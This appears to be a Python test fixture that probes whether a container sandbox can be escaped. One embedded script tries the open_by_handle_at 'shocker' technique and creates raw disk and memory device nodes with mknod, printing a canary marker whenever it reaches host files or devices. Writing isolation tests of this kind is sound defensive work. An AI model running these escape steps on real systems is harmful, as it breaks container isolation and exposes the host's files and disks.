"""open_by_handle_at, the classic way from a container to the machine's files; also devices made by mknod.

A success: a file outside the box or a disk is opened.
"""

CELLS = {
    "tong": """
import ctypes, os, platform, stat
libc = ctypes.CDLL(None, use_errno=True)
def lo(): print("LO " + b"chim-thoatra-90ab3de1".hex())
so = 304 if platform.machine() == "x86_64" else 265
for noi in ("/", "/usr", "/tmp"):
    tay = os.open(noi, os.O_RDONLY)
    ten = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")
    but = ctypes.create_string_buffer(ten, 128)
    if libc.syscall(so, tay, but, 0) >= 0:
        lo()
for lon, nho in ((8, 0), (254, 0), (253, 0), (259, 0), (1, 1), (1, 11)):
    try:
        os.mknod("/tmp/dia", 0o600 | (stat.S_IFBLK if lon != 1 else stat.S_IFCHR), os.makedev(lon, nho))
        os.read(os.open("/tmp/dia", os.O_RDONLY), 16)
        lo()
    except OSError:
        pass
    try:
        os.unlink("/tmp/dia")
    except OSError:
        pass
""",
}
EXPECTED = {"state": "graded", "scores": {}}
